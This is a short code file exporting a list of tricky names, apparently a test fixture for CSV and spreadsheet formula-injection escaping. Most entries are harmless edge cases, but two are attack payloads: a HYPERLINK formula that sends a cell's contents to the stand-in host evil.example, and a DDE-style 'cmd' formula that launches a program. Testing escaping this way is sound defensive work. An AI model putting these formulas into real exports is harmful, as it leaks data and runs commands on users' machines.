/** Names that a CSV reader or a spreadsheet might take for something else. */
export const hostileNames = [
  '=HYPERLINK("http://evil.example/?"&A1;"click")',
  '+1+cmd|’/C calc’!A0',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  'quoted "name", with commas',
  'two\nlines\r\nand more',
  'emoji 👩‍💻 and ünïcode',
  "'quoted already",
  ' leading space',
  '5',
];
